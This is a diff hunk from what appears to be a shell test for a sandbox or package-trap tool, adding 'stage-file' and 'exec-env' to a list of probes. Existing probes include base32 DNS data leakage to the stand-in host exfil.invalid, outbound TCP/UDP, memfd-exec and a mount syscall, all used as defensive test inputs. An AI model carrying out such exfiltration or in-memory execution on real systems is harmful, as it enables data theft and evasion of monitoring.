@@ -35,6 +35,8 @@ $P leak-b32-dns exfil.invalid
 $P tcp 2001:db8::7 8443 v6-bytes
 $P udp 203.0.113.5 9999 udp-payload
 $P files /tmp
+$P stage-file /tmp/stage.txt
+$P exec-env
 $P memfd-exec
 $P syscall mount"
   out=$("${AS[@]}" "$PKGTRAP" run --trace "$TRACE" --ro-bind "$PROBE_DIR" -- /bin/sh -c "$script" 2>&1); rc=$?
